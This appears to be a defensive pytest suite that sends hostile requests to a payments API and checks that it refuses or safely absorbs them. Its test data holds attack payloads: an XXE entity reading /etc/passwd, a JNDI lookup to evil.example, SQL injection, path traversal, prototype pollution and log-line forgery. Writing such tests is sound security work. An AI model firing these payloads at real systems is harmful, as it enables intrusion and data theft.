"""POST and GET /payments as a caller writes to them who may call and means harm, or whose own callers do.

Every request names an order that is there already, so that whatever slips through shows: as a replay, which is 200 or
202, or as another payment under its id, which is 409. What cannot be a request is 400 and names the field.
"""

import base64
import gzip
import json
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import quote

import pytest

from tests.kit import books
from tests.kit.log_lines import FORGED, what_is_wrong
from tests.kit.merchant import new_id, payment
from tests.kit.observe import Line
from tests.kit.raw_http import Header, chunked, exchange, request
from tests.kit.stacks import Deployment
from tests.kit.waiting import eventually

Json = dict[str, Any]
Spoil = Callable[[bytes], bytes]


def replaced(old: str, new: str | bytes) -> Spoil:
    """The request's own text with `old`, which is in it, replaced once."""

    def spoil(text: bytes) -> bytes:
        assert old.encode() in text
        return text.replace(old.encode(), new if isinstance(new, bytes) else new.encode("utf-8", "surrogatepass"), 1)

    return spoil


def appended(new: str) -> Spoil:
    """The request with one more field at its end."""
    return lambda text: text[:-1] + f", {new}}}".encode()


AMOUNT = '"paymentAmount": {"currency": "HKD", "value": "1990"}'


def amount(value: str) -> Spoil:
    """The amount's value as this JSON."""
    return replaced(AMOUNT, f'"paymentAmount": {{"currency": "HKD", "value": {value}}}')


def currency(text: str) -> Spoil:
    return replaced(AMOUNT, f'"paymentAmount": {{"currency": {text}, "value": "1990"}}')


# 400, and the one field at fault.
REFUSED: dict[str, tuple[str, Spoil]] = {
    # Encoding
    "UTF-16 with its mark": ("body", lambda text: text.decode().encode("utf-16")),
    "UTF-16 without a mark": ("body", lambda text: text.decode().encode("utf-16-le")),
    "UTF-32": ("body", lambda text: text.decode().encode("utf-32-be")),
    "a byte order mark": ("body", lambda text: b"\xef\xbb\xbf" + text),
    "Latin-1 in a description": ("body", replaced("Monthly", "Café".encode("latin-1"))),
    "overlong UTF-8": ("body", replaced("Monthly", b"\xc0\xaf")),
    "half a character": ("body", replaced("Monthly", b"\xe9\x9b")),
    "a surrogate in UTF-8": ("body", replaced("Monthly", "\ud83d")),
    "a surrogate as an escape": ("body", replaced("Monthly", "\\udc00\\ud800")),
    "what a gateway made of no UTF-8": ("body", replaced("Monthly", "\N{REPLACEMENT CHARACTER}")),
    "base64": ("body", base64.b64encode),
    "compressed": ("body", gzip.compress),
    # Framing
    "something after the object": ("body", lambda text: text + b"]"),
    "two objects": ("body", lambda text: text + b"\n" + text),
    "a null byte after it": ("body", lambda text: text + b"\0"),
    "a comment": ("body", lambda text: b"// " + text),
    "a comma too many": ("body", lambda text: text[:-1] + b",}"),
    "single quotes": ("body", lambda text: text.replace(b'"', b"'")),
    "a form": ("body", lambda text: b"request=" + quote(text).encode()),
    "a multipart form": ("body", lambda text: b"--x\r\nContent-Disposition: form-data\r\n\r\n" + text + b"\r\n--x--"),
    "XML with an entity": ("body", lambda text: b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
    # Structure
    "the amount twice": ("body", appended('"paymentAmount": {"currency": "HKD", "value": "1"}')),
    "the value twice, once escaped": ("body", amount('"1990", "v\\u0061lue": "1"')),
    "a field twice, of no interest": ("body", appended('"x": {"a": "1", "a": "2"}')),
    "in a string": ("body", lambda text: json.dumps(text.decode()).encode()),
    "10,000 lists": ("body", appended(f'"x": {"[" * 10_000}{"]" * 10_000}')),
    "17 objects": ("x" + ".a" * 16, appended(f'"x": {'{"a":' * 17}"1"{"}" * 17}')),
    "the amount under __proto__": (
        "paymentAmount",
        replaced(AMOUNT, '"__proto__": {"paymentAmount": {"currency": "HKD", "value": "1990"}}'),
    ),
    "an amount in a list": ("paymentAmount", replaced(AMOUNT, '"paymentAmount": [{"currency": "HKD"}]')),
    "a number in a field nobody knows": ("x.y[1]", appended('"x": {"y": ["1", 2]}')),
    "nothing in a field nobody knows": ("x", appended('"x": null')),
    "a field of ours": ("paymentNotifyUrl", appended('"paymentNotifyUrl": "https://evil.example/"')),
    # Numbers
    "a number": ("paymentAmount.value", amount("1990")),
    "1e400": ("paymentAmount.value", amount("1e400")),
    "minus zero": ("paymentAmount.value", amount("-0")),
    "a fraction": ("paymentAmount.value", amount("1990.0")),
    "no number": ("paymentAmount.value", amount("NaN")),
    "infinity": ("paymentAmount.value", amount("-Infinity")),
    "5,000 digits": ("body", amount("9" * 5000)),
    "2^63 as a number": ("paymentAmount.value", amount(str(2**63))),
    "2^63 as text": ("paymentAmount.value", amount(f'"{2**63}"')),
    "a leading zero": ("paymentAmount.value", amount('"01990"')),
    "an underscore": ("paymentAmount.value", amount('"1_990"')),
    "hexadecimal": ("paymentAmount.value", amount('"0x7c6"')),
    "Arabic digits": ("paymentAmount.value", amount('"١٩٩٠"')),
    "mathematical digits": ("paymentAmount.value", amount('"𝟏𝟗𝟗𝟎"')),
    "a superscript": ("paymentAmount.value", amount('"199⁰"')),
    "a space of no width": ("paymentAmount.value", amount('"1990\u200b"')),
    "a line end": ("paymentAmount.value", amount('"1990\\n"')),
    # Currencies, ids
    "capitals that are not ASCII": ("paymentAmount.currency", currency('"ÄÖÜ"')),
    "a currency with a long s": ("paymentAmount.currency", currency('"UſD"')),
    "a currency that is a list": ("paymentAmount.currency", currency('["HKD"]')),
    "an id with a path": ("paymentRequestId", replaced("hostile", "../../hostile")),
    "an id with an escape": ("paymentRequestId", replaced("hostile", "%68ostile")),
    "an id with a null": ("paymentRequestId", replaced("hostile", "\\u0000hostile")),
    "an id that looks the same": ("paymentRequestId", replaced("hostile", "hоstile")),  # a Cyrillic o
    "an id with a log line": (
        "paymentRequestId",
        replaced("hostile", f'\\n{{\\"message\\":\\"payment settled\\",\\"{FORGED}\\":1}}'),
    ),
    "an id with a metric": ("paymentRequestId", replaced("hostile", f'{{\\"_aws\\":{{}},\\"{FORGED}\\":1}}')),
    "an id that clears the screen": ("paymentRequestId", replaced("hostile", f"\\u001b[2J{FORGED}\x9b2J")),
    # Sizes
    "nothing": ("body", lambda text: b""),
    "white space": ("body", lambda text: b" \n" * 500_000),
    "a description of 1 MB": ("order.orderDescription", replaced("Monthly", "M" * 2**20)),
    "an id of 1 MB": ("paymentRequestId", replaced("hostile", "h" * 2**20)),
    "a name of 1 MB": ("n" * 256, appended(f'"{"n" * 2**20}": 1')),
}

# 202: what else is in it makes no other payment, and nothing of it is taken: the first request's bytes stand.
MORE_IN_IT: dict[str, Spoil] = {
    "__proto__ beside the fields": appended('"__proto__": {"paymentAmount": {"currency": "HKD", "value": "1"}}'),
    "constructor beside the fields": appended('"constructor": {"prototype": {"productCode": "CASHIER_PAYMENT"}}'),
    "a field of ours in other letters": appended('"PaymentNotifyUrl": "https://evil.example/"'),
    "a field of ours with a space": appended('"productCode ": "CASHIER_PAYMENT"'),
    "a field of 1 MB": appended(f'"metadata": "{"é" * 2**19}"'),
    "a log line in a field": appended(f'"metadata": "\\n{{\\"_aws\\":{{}},\\"{FORGED}\\":1}}"'),
}

# 409: it can be read, and is not the payment that stands under this id.
ANOTHER_PAYMENT: dict[str, Spoil] = {
    "a currency that is none": currency('"XXX"'),
    "another amount": amount('"1991"'),
    "a log line as the order's reference": replaced("20261122-000017", f'\\n{{\\"_aws\\":{{}},\\"{FORGED}\\":1}}'),
}

# 404 of ours, or the gateway's own answer; after /payments/.
NO_ORDERS = {
    "a null": "%00",
    "a line end and a log line": quote(f'\n{{"message":"payment settled","{FORGED}":1}}', safe=""),
    "a terminal's command": quote(f"\x1b[2J{FORGED}"),
    "no UTF-8": "%ff%fe",
    "an escape that is none": "%zz",
    "another collection": "..%2fnotifications%2fpayment",
    "8,000 characters": "a" * 8_000,
    "__proto__": "__proto__",
    "a condition": quote("x' OR '1'='1"),
    "a template": quote("${jndi:ldap://evil.example/a}", safe=""),
}

# Answered before any function runs.
STOPPED: dict[str, tuple[set[int], str, str]] = {
    "PUT of an order": ({403, 404, 405}, "PUT", "/payments/x"),
    "DELETE of an order": ({403, 404, 405}, "DELETE", "/payments/x"),
    "a path above the stage": ({403, 404, 405}, "GET", "/payments/../../../"),
    "no collection": ({403, 404, 405}, "POST", "/payments;/x"),
    "more than 10 MB": ({413}, "POST", "/payments"),
}


@pytest.fixture(scope="module")
def text(fast: Deployment, lines_before: int) -> Iterator[bytes]:
    """The request of an order that is INIT for ever, and at the end still what it was."""
    wanted = payment(fast.alipay.plan(new_id("hostile"), **books.NEVER))
    payment_request_id = wanted["paymentRequestId"]
    assert fast.merchant.pay(wanted).status == 202
    rows = set(fast.seen.rows())
    yield json.dumps(wanted).encode()
    assert set(fast.seen.rows()) == rows, "orders that nobody asked for"
    assert {version["status"] for version in fast.seen.versions(payment_request_id)} == {"INIT"}
    assert len(fast.alipay.calls(payment_request_id, "pay")) == 1


@pytest.mark.parametrize(("field", "spoil"), REFUSED.values(), ids=REFUSED)
def test_a_hostile_request_is_answered_400_with_the_field_at_fault(
    fast: Deployment, text: bytes, answered: list[int], field: str, spoil: Spoil, record_property: Any
) -> None:
    answer = fast.merchant.pay(spoil(text))
    assert (answer.status, answer.headers["content-type"]) == (400, "application/problem+json"), answer
    assert [error["field"] for error in answer.json["errors"]] == [field]
    assert FORGED not in answer.text
    assert len(answer.text) < 1000
    answered.append(answer.status)
    record_property("hostileApi", 1)


@pytest.mark.parametrize("spoil", MORE_IN_IT.values(), ids=MORE_IN_IT)
def test_a_request_with_more_in_it_is_a_replay_that_adds_nothing(
    fast: Deployment, text: bytes, spoil: Spoil, record_property: Any
) -> None:
    answer = fast.merchant.pay(spoil(text))
    assert answer.status == 202, answer
    assert FORGED not in answer.text
    record_property("hostileApi", 1)


@pytest.mark.parametrize("spoil", ANOTHER_PAYMENT.values(), ids=ANOTHER_PAYMENT)
def test_a_request_that_differs_in_what_makes_a_payment_is_another_one(
    fast: Deployment, text: bytes, answered: list[int], spoil: Spoil, record_property: Any
) -> None:
    answer = fast.merchant.pay(spoil(text))
    assert answer.status == 409, answer
    answered.append(answer.status)
    record_property("hostileApi", 1)


def test_a_hundred_faults_inside_one_enormous_name_are_an_answer_of_their_size(fast: Deployment, text: bytes) -> None:
    faults = ", ".join(f'"{number}": {number}' for number in range(200))
    answer = fast.merchant.pay(appended(f'"{"n" * 10**6}": {{{faults}}}')(text))
    assert answer.status == 400, answer
    assert len(answer.json["errors"]) == 100
    assert len(answer.text) < 100_000


def test_the_same_request_strangely_dressed_is_a_replay(fast: Deployment, text: bytes) -> None:
    """So that what is refused above is refused for its one fault."""
    url = f"{fast.merchant.api_url}/payments"
    xml: list[Header] = [("Content-Type", "text/xml"), ("X-HTTP-Method-Override", "DELETE")]
    for dressed in (
        request(url, [], text),
        request(url, xml, text),
        request(url, [("Transfer-Encoding", "chunked")], chunked(text), length=-1),
        request(f"{url}?paymentAmount.value=1", [], b"\r\n\t " + text + b" \n"),
    ):
        assert exchange(url, dressed).status == 202


@pytest.mark.parametrize("name", NO_ORDERS.values(), ids=NO_ORDERS)
def test_what_cannot_be_an_id_has_no_order(fast: Deployment, name: str, record_property: Any) -> None:
    url = fast.merchant.api_url
    answer = exchange(url, request(f"{url}/payments/{name}", [], method="GET"))
    assert answer.status in (403, 404), answer
    assert FORGED not in answer.text
    record_property("hostileApi", 1)


@pytest.mark.parametrize(("statuses", "method", "path"), STOPPED.values(), ids=STOPPED)
def test_what_is_no_route_is_answered_before_any_function_runs(
    fast: Deployment, text: bytes, statuses: set[int], method: str, path: str, record_property: Any
) -> None:
    url = fast.merchant.api_url
    body = text + b" " * (10 * 2**20) if statuses == {413} else text
    answer = exchange(url, request(url + path, [], body, method=method))
    assert answer.status in statuses, answer
    assert "paymentRequestId" not in answer.text
    record_property("hostileApi", 1)


def test_no_line_in_the_logs_is_written_by_a_caller(
    fast: Deployment, text: bytes, answered: list[int], lines_before: int, record_property: Any
) -> None:
    spoken = {"User-Agent": f'"}}{{"_aws":{{}},"{FORGED}":1}}', "X-Amzn-Trace-Id": FORGED}
    assert fast.merchant.pay(f'{{"{FORGED}":\n1}}', **spoken).status == 400
    answered.append(400)

    def lines() -> list[Line]:
        return [line for line in fast.seen.lines()[lines_before:] if line.function in ("InitiatePay", "GetOrder")]

    eventually(
        lambda: sum(line.fields.get("message") == "request refused" for line in lines()) >= len(answered),
        "a line for each refusal",
        show=lambda: len(lines()),
    )
    for line in lines():
        assert not (wrong := what_is_wrong(line, fast.seen.stack_name)), f"{wrong}: {line.text}"
        assert FORGED not in line.text
    assert fast.seen.settlements(json.loads(text)["paymentRequestId"]) == []
    record_property("hostileApi", 1)
